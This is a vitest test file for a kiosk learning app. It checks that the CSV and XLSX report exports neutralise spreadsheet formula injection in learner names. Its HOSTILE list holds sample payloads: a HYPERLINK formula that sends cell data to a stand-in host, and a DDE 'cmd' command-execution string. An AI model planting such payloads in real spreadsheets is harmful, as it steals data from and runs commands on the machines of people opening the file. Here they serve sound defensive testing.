import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import yauzl from 'yauzl';
import { reportCsv, type ReportTable } from '../../../main/core/hub/reports-table';
import { reportWorkbook } from '../../../main/core/hub/reports-xlsx';
import { villageWorkbook } from '../../../main/core/reports/xlsx';
import type { KioskRow } from '../../../main/core/setup/kiosk';

/** Names a learner could type on a kiosk, which a spreadsheet would otherwise run as formulas. */
const HOSTILE = [
  '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
  '+62 812 cmd',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
];

const table: ReportTable = {
  title: 'Laporan',
  about: ['Hub'],
  headers: ['Nama', 'Kenaikan'],
  kinds: ['text', 'score'],
  rows: HOSTILE.map((name, i) => [name, -5 - i]),
};

/** Every worksheet XML of an .xlsx, as text. */
async function sheetXml(bytes: Buffer): Promise<string> {
  const zip = await new Promise<yauzl.ZipFile>((resolve, reject) =>
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (e, z) => (e ? reject(e) : resolve(z))),
  );
  const parts: string[] = [];
  await new Promise<void>((resolve, reject) => {
    zip.on('entry', (entry: yauzl.Entry) => {
      if (!/^xl\/(worksheets\/.*|sharedStrings)\.xml$/.test(entry.fileName)) return zip.readEntry();
      zip.openReadStream(entry, (e, stream) => {
        if (e) return reject(e);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          parts.push(Buffer.concat(chunks).toString('utf8'));
          zip.readEntry();
        });
      });
    });
    zip.on('end', () => resolve());
    zip.readEntry();
  });
  return parts.join('\n');
}

describe('exports never turn a cell into a formula', () => {
  it('the hub report CSV prefixes text that starts with = + - @ with a quote; numbers stay numbers', () => {
    const text = reportCsv(table)
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    const rows = Papa.parse<string[]>(text.trim(), { header: false }).data.slice(1);
    expect(rows.map((r) => r[0])).toEqual(HOSTILE.map((n) => `'${n}`));
    expect(rows.map((r) => r[1])).toEqual(['-5', '-6', '-7', '-8']);
  });

  it('the hub and village XLSX write such text as strings: no formula element anywhere', async () => {
    const hub = await sheetXml(await reportWorkbook(table));
    const kiosk = {
      desa_name: '=cmd',
      desa_code: '33.05.01.2001',
      kecamatan_name: 'K',
      kabupaten_name: 'B',
      provinsi_name: 'P',
    } as KioskRow;
    const village = await sheetXml(
      await villageWorkbook({
        kiosk,
        jabatan: undefined,
        generatedAt: '2026-12-08T10:00:00+07:00',
        clockWarning: false,
        rows: HOSTILE.map((fullName, i) => ({
          learnerId: `l${i}`,
          fullName,
          jabatan: null,
          erased: false,
          disabled: false,
          courseId: 'c',
          courseTitle: '@kursus',
          pretestScore: 50,
          posttestScore: 40,
          gain: -10,
          normalizedGain: -0.2,
          status: 'failed_post',
          lessonsCompleted: 1,
          lessonCount: 2,
          posttestAttemptsLeft: 1,
          certificateNumber: null,
          lastActivity: null,
          timeSpentMinutes: 3,
        })),
      }),
    );
    for (const xml of [hub, village]) {
      expect(xml).not.toMatch(/<f[ >]/);
      expect(xml).toContain('=HYPERLINK(&quot;http://contoh.invalid/?&quot;&amp;A1,&quot;Klik&quot;)');
    }
  });
});
